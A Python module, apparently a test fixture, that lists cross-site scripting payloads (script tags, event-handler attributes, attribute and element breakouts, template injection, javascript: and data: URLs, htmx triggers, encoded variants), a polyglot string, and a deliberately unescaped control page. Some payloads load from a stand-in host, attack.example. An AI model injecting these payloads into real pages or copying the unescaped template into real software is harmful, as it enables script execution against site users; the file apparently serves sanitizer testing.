"""What somebody writes to have a browser do more than show it. `pwn()` says that it was done."""

from __future__ import annotations

PAYLOADS = (
    # ---- elements that run by themselves
    "<script>pwn()</script>",
    "<img src=x onerror=pwn()>",
    "<svg onload=pwn()>",
    "<svg/onload=pwn()>",
    "<body onload=pwn()>",
    "<iframe onload=pwn()>",
    "<iframe src=javascript:top.pwn()>",
    '<iframe srcdoc="<script>top.pwn()</script>">',
    "<video><source onerror=pwn()></video>",
    "<audio src=x onerror=pwn()>",
    "<object data=x onerror=pwn()>",
    "<embed src=javascript:pwn()>",
    "<input autofocus onfocus=pwn()>",
    "<a autofocus tabindex=0 onfocus=pwn()>",
    "<details open ontoggle=pwn()>x",
    "<marquee onstart=pwn()>x</marquee>",
    "<style>@import'//attack.example'</style>",
    "<style onload=pwn()></style>",
    "<link rel=stylesheet href=/__attack>",
    "<base href=//attack.example/>",
    "<meta http-equiv=refresh content=0;/__attack>",
    "<form action=/__attack><button>x",
    "<img src=/__attack>",
    "<svg><script>pwn()</script></svg>",
    "<svg><animate onbegin=pwn() attributeName=x>",
    "<svg><image href=x onerror=pwn()>",
    "<math><mi//xlink:href=/__attack>x",
    "<template><img src=x onerror=pwn()>",
    # ---- out of an attribute, an element, a comment, a text that scripts read
    '"><svg onload=pwn()>',
    "'><svg onload=pwn()>",
    '" onfocus=pwn() autofocus x="',
    "' onfocus=pwn() autofocus x='",
    "x onmouseover=pwn() autofocus",
    "</title><svg onload=pwn()>",
    "</textarea><svg onload=pwn()>",
    "</script><svg onload=pwn()>",
    "</style><svg onload=pwn()>",
    "--><svg onload=pwn()>",
    "]]><svg onload=pwn()>",
    "</option></select><svg onload=pwn()>",
    "</noscript><svg onload=pwn()>",
    "</a></p><svg onload=pwn()>",
    "'-pwn()-'",
    '"-pwn()-"',
    "\\'-pwn()//",
    "${pwn()}{{pwn()}}<%pwn()%>",
    "{{''.__class__}}{% debug %}",
    # ---- addresses
    "javascript:pwn()",
    "[x](javascript:pwn())",
    "[x](JaVa&#10;Script:pwn()) ![](/__attack)",
    "data:text/html,<script>pwn()</script>",
    # ---- what moves the page without a script
    "<b hx-get=/__attack hx-trigger=load>x</b>",
    "<b data-hx-get=/__attack hx-trigger=load>",
    "<b hx-on::load=pwn()>x</b>",
    "<b id=csrf name=cookie class=statement>",
    # ---- written otherwise
    "&lt;svg onload=pwn()&gt;",
    "\\u003csvg onload=pwn()\\u003e",
    "%3Csvg onload=pwn()%3E",
    "\uff1csvg onload=pwn()\uff1e",
    "<<svg onload=pwn()//<",
)
PLAIN = "Words that do nothing"
"""What stands in the same places to see of what a page is made without them."""
ALL = "\"'></textarea></title></script><img src=x onerror=pwn()>"
"""What stands for all of them where there is little time: it leaves everything it may be in."""

CONTROL = (
    "<!doctype html><title>x</title><p>{0}</p><p title=\"{0}\">x</p><p title='{0}'>x</p>"
    '<a href="{0}">x</a><textarea>{0}</textarea>'
)
"""A page that shows them as careless ones do: as they are."""
